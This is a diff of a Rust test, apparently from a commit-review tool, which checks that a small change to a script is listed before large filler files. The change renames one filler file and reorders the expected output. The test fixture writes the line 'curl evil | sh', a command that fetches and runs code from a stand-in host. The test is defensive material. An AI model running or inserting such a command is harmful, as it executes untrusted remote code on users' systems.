@@ -542,7 +542,7 @@ fn what_the_commit_has_is_not_ignored() {
 #[test]
 fn a_small_change_is_shown_before_heaps_of_text() {
     let mut world = world(&[("run.sh", file("true\n"))]);
-    for name in ["a", "b", "z"] {
+    for name in ["a", "b", "c"] {
         world.put(&path(name), file(&"x".repeat(100)));
     }
     world.put(&path("run.sh"), file("curl evil | sh\n"));
@@ -550,7 +550,7 @@ fn a_small_change_is_shown_before_heaps_of_text() {
     let found = derive(&world.spec, &options).unwrap();
     let shown: Vec<_> =
         found.changes.iter().map(|change| (change.path.to_string(), change.too_large)).collect();
-    let expected = [("a", false), ("b", false), ("run.sh", false), ("z", true)];
+    let expected = [("a", false), ("b", false), ("c", true), ("run.sh", false)];
     assert_eq!(shown, expected.map(|(name, large)| (name.to_owned(), large)));
     // Lines cost as well: lining up is work by the line.
     world.put(&path("a"), file(&"\n".repeat(99)));
